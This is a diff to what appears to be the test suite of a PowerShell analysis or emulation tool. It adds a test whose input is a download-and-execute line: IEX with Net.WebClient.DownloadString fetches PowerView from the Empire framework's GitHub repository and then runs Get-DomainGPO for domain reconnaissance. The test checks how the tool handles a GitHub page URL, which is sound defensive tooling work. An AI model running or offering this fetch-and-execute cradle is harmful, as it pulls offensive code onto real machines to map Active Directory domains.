@@ -195,3 +195,11 @@ describe('hostile stores', () => {
     expect(PayloadStore.open(dir, undefined).url('https://h/x.ps1')).toBeUndefined();
   });
 });
+
+describe('GitHub pages', () => {
+  it('a github.com blob URL without ?raw=true serves a page, so nothing loads and nothing is missing (T1615 #2)', () => {
+    const run = ps("IEX (New-Object Net.WebClient).DownloadString('https://github.com/BC-SECURITY/Empire/blob/86921fb/empire/server/data/module_source/situational_awareness/network/powerview.ps1'); Get-DomainGPO");
+    expect(run.events.filter((e) => e.source)).toEqual([]);
+    expect(run.notes).toEqual([]);
+  });
+});
